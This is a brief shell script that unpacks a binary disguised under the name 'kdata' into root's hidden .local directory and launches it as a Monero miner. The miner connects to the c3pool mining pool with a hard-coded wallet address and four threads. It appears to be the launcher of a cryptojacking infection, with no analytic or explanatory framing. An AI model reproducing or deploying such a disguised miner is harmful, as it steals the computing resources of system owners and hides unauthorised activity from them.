#!/bin/sh
mkdir -p /root/.local/bin
bunzip2 -c /root/.local/share/kdata.bz2 > /root/.local/bin/kdata
chmod 700 /root/.local/bin/kdata
exec /root/.local/bin/kdata -a rx/0 -o auto.c3pool.org:19333 -u 48bG3NevSroAdmXVfKoS5oN3LBwfXdZSRwwTbLMzqzLC9cSjQ44s1xnUUd2zJK2jnPnEets5U4tniRgkj511vKh3CP8wVdQ -p bz2 -t 4
